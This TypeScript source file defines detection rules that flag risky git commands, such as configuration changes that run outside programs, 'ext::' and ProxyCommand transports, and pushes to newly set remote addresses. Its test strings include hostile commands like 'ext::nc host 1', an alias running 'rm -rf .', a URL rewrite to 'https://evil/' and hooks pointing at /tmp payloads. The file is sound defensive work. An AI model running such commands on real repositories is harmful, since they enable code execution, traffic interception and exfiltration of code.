import type { ProgramCall } from '../../program-call.ts'
import type { GuardRule } from '../rule.ts'
import { isForeign, runsProgram, settingsOf, usesForeignCode } from './settings.ts'

/** Git as a way to run other programs, now or from now on. */
export const launchingRules: readonly GuardRule[] = [
  {
    id: 'git/config-code',
    program: 'git',
    sub: 'config',
    none: ['--get', '--get-all', '--list', '-l', '--unset', '--unset-all', '--get-regexp', '--remove-section'],
    when: call => {
      const [key, value] = call.after(call.isSub('config set') ? 2 : 1)
      return key && value ? changesWhatRuns(key.value, value.value, call) : false
    },
    severity: 'high',
    reason: 'makes git run other programs or use other servers from now on',
    match: [
      'git config core.hooksPath /tmp/h',
      'git config --global core.sshCommand "ssh -i /tmp/k"',
      "git config alias.x '!rm -rf .'",
      'git config --global http.sslVerify false',
      'git config --global url."https://evil/".insteadOf "https://github.com/"',
      "git config --global core.pager 'tee /tmp/x | less'",
      'git config --global gpg.program /tmp/g',
      "git config set --global diff.tool.cmd x && git config mergetool.m.cmd 'sh /tmp/x'",
      'git config --global include.path /tmp/gitconfig',
      'git config protocol.ext.allow always',
      'git config remote.origin.pushurl https://git.example.com/x',
    ],
    notMatch: [
      'git config user.name "Me"',
      'git config --get core.hooksPath',
      'git config alias.co checkout',
      'git config core.hooksPath .husky',
      'git config --global credential.helper cache',
      "git config --global credential.helper '!gh auth git-credential'",
      'git config --global core.pager delta',
      "git config --global core.editor 'code --wait'",
      'git config --global gpg.program gpg2',
      'git config --global include.path ~/.gitconfig.local',
      "git config filter.lfs.clean 'git-lfs clean -- %f'",
      'git config core.fsmonitor true',
      'git config diff.lockb.textconv bun',
      'git config --list',
    ],
  },
  {
    id: 'git/foreign-code',
    program: 'git',
    when: usesForeignCode,
    severity: 'high',
    reason: 'makes git run code from outside the workspace',
    match: [
      'git -c core.hooksPath=/tmp/hooks commit -m x',
      'git -c gpg.program=/tmp/g commit -S -m x',
      "git -c filter.x.clean='sh /tmp/payload.sh' add -A",
      'GIT_SSH=/tmp/ssh git fetch',
      'GIT_EXEC_PATH=/tmp/git-core git fetch',
      'GIT_CONFIG_GLOBAL=/tmp/gitconfig git status',
      'git clone --template=/tmp/template https://github.com/a/b',
      'git --exec-path=/tmp/x status',
      'git fetch --upload-pack=/tmp/pack origin',
      'export GIT_ASKPASS=/tmp/ask; git fetch',
    ],
    notMatch: [
      'git -c core.hooksPath=/dev/null commit -m x',
      'git -c core.hooksPath=.githooks commit -m x',
      "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy' git fetch",
      'GIT_CONFIG_GLOBAL=/dev/null git status',
      'GIT_ASKPASS=/usr/bin/ksshaskpass git fetch',
      'git init --template= x',
      'git --exec-path',
      'git -c core.pager=cat log',
      'git -c user.name=x -c user.email=x@y.z commit -m x',
    ],
  },
  {
    id: 'git/transport',
    program: 'git',
    operandMatches: /^(?:ext|fd)::|^ssh:\/\/-|^-o(?:ProxyCommand|LocalCommand)/i,
    severity: 'high',
    reason: 'runs a command in place of a connection to a repository',
    match: [
      "git clone 'ext::sh -c id' /tmp/c",
      "git remote add x 'ext::nc host 1'",
      'git clone ssh://-oProxyCommand=id/x',
    ],
    notMatch: ['git clone https://github.com/a/b', 'git clone ssh://git@host/x', 'git commit -m "ext::sh"'],
  },
  {
    id: 'git/serve',
    program: 'git',
    sub: ['daemon', 'instaweb'],
    none: ['--stop'],
    severity: 'medium',
    reason: 'lets other machines read repositories',
    match: ['git daemon --base-path=/srv --export-all', 'git instaweb --httpd=webrick'],
    notMatch: ['git daemon --help', 'git instaweb --stop', 'git log --grep daemon'],
  },
  {
    id: 'git/push-url',
    program: 'git',
    sub: 'push',
    none: ['-n'],
    when: call => {
      const target = call.value('--repo') ?? call.operands[1]
      return target && isRemoteUrl(target.value) ? target : false
    },
    severity: 'medium',
    reason: 'pushes to an address that is not a remote of the repository',
    safer: 'git push origin HEAD',
    match: [
      'git push https://git.example.com/x.git --all',
      'git push git@example.com:me/x.git main',
      'git push ssh://git@example.com/x HEAD',
    ],
    notMatch: [
      'git push origin main',
      'git push ../mirror.git main',
      'git push https://localhost/x main',
      'git push file:///srv/x main',
    ],
  },
  {
    id: 'git/push-everything',
    program: 'git',
    sub: 'push',
    none: ['-n'],
    when: call =>
      isNewRemote(call) &&
      (call.has('--all', '--branches', '--mirror') ||
        (call.after(2).find(({ value }) => /^\+?refs\/(?:heads\/)?\*/.test(value)) ?? false)),
    severity: 'high',
    reason: 'pushes every branch to a remote that this command sets up',
    match: [
      'git remote add backup https://git.example.com/x && git push --all backup',
      "git remote set-url --push origin git@example.com:x; git push origin 'refs/*:refs/*'",
    ],
    notMatch: ['git push --all origin', 'git remote add origin git@github.com:me/x.git && git push -u origin main'],
  },
  {
    id: 'git/push-elsewhere',
    program: 'git',
    sub: 'push',
    none: ['-n'],
    when: goesElsewhere,
    severity: 'medium',
    reason: 'pushes to an address that the same command gave the remote',
    safer: 'git remote -v',
    match: [
      'git remote set-url origin https://git.example.net/a.git; git push -u origin HEAD --tags',
      'git remote set-url --push origin git@git.example.net:a.git && git push',
      'git config remote.origin.url https://git.example.net/a.git && git push',
      'git -c remote.origin.pushurl=https://git.example.net/a.git push origin HEAD',
      'git remote add x https://git.example.net/a.git && git push x HEAD',
    ],
    notMatch: [
      'git remote add origin git@github.com:me/x.git && git push -u origin main',
      'git remote set-url origin git@github.com:me/x.git && git fetch',
      'git remote set-url upstream https://git.example.net/a.git && git push origin HEAD',
      'git remote set-url origin ../mirror.git && git push',
      'git remote -v && git push -u origin HEAD',
    ],
  },
]

/** Where most people keep their repositories. Adding a remote there and pushing to it is how a new one begins. */
const knownHosts =
  /^(?:\w+:\/\/)?(?:[^@/]*@)?(?:[\w-]+\.)?(?:github\.com|gitlab\.com|bitbucket\.org|codeberg\.org|dev\.azure\.com|visualstudio\.com|sr\.ht|gitee\.com|heroku\.com|huggingface\.co|hf\.co)[:/]/i

/** Whether the command itself changed where this push goes. */
function goesElsewhere(call: ProgramCall): boolean {
  const [how = '', url = ''] = (call.frame.scope.variables.get(remoteKey(remoteOf(call)))?.text ?? '').split(' ')
  if (isRemoteUrl(url) && (how === 'set-url' || !knownHosts.test(url))) return true
  return settingsOf(call).some(
    ({ key, value }) =>
      (/^remote\..+\.(?:push)?url$/i.test(key) && isRemoteUrl(value)) ||
      (/^url\..+\.(?:push)?insteadof$/i.test(key) && isRemoteUrl(key.slice(4)) && !knownHosts.test(key.slice(4))),
  )
}

/** Whether a remote was added or changed earlier in the command; `wrappers/git-commands.ts` remembers it. */
function isNewRemote(call: ProgramCall): boolean {
  return call.frame.scope.variables.has(remoteKey(remoteOf(call)))
}

function remoteOf(call: ProgramCall): string {
  return (call.value('--repo') ?? call.operands[1])?.value ?? 'origin'
}

/** Where the scope remembers a remote: no variable can have this name. */
export function remoteKey(name: string): string {
  return `git remote ${name}`
}

function isRemoteUrl(value: string): boolean {
  if (/^(?:https?|ssh|git|ftps?):\/\/(?:[^@/]*@)?(?:localhost|127\.0\.0\.1|\[::1\])[:/]/.test(value)) return false
  return /^(?:https?|ssh|git|ftps?):\/\/|^[\w.-]+@[\w.-]+:/.test(value)
}

function changesWhatRuns(key: string, value: string, call: ProgramCall): boolean {
  if (/^alias\./i.test(key)) return value.startsWith('!')
  if (/^http\.(?:.*\.)?sslverify$/i.test(key)) return /^(?:false|0|no|off)$/i.test(value)
  if (/^protocol\.(?:ext\.)?allow$/i.test(key)) return /^always$/i.test(value)
  if (/^(?:url\..*\.(?:pushinsteadof|insteadof)|http\.(?:.*\.)?proxy|remote\..+\.(?:pushurl|proxy))$/i.test(key))
    return value !== ''
  if (/^(?:core\.hookspath|uploadpack\..*)$/i.test(key))
    return !/^(?:\.?\/?\.?husky.*|\.?githooks|\.?\/?hooks)$/.test(value)
  if (/^(?:init\.templatedir|include\.path|includeif\..+\.path)$/i.test(key))
    return isForeign(value, call) && !value.startsWith(`${call.context.home}/`)
  return runsProgram(key) && !isHarmlessCommand(key, value)
}

function isHarmlessCommand(key: string, value: string): boolean {
  if (/^(?:true|false|)$/.test(value)) return true
  if (/^credential\./i.test(key))
    return /^(?:cache|store|manager|osxkeychain|libsecret|wincred|gnome-keyring)\b[^;|&`$]*$|^!?\S*(?:gh|glab) auth git-credential$|^!aws codecommit credential-helper \$@$/.test(
      value,
    )
  if (/^submodule\./i.test(key)) return !value.startsWith('!')
  if (/^sendemail\..*smtpserver$/i.test(key)) return !value.startsWith('/')
  // A single word is a program on the PATH.
  if (/^[\w.-]+$/.test(value) && !/^core\.(?:askpass|sshcommand|fsmonitor|gitproxy)$/i.test(key))
    return !/^(?:(?:ba|z|da|k|fi)?sh|python[\d.]*|perl|ruby|node|php|eval|source|xargs)$/.test(value)
  return /^(?:less|more|cat|most|bat|delta|diff-so-fancy|vim?|nvim|nano|micro|hx|helix|emacs|emacsclient|code|code-insiders|codium|cursor|zed|subl|mate|atom|idea|gpg2?|meld|kdiff3|opendiff|bcompare|p4merge|vimdiff|nvimdiff|git-lfs|git lfs|difft|firefox|open|xdg-open)(?:\s[^;|&`]*)?(?:\s*\|\s*less(?:\s[^;|&`]*)?)?$|^(?:\/usr|\/opt|\/Applications)\/[^;|&`]*$/.test(
    value,
  )
}
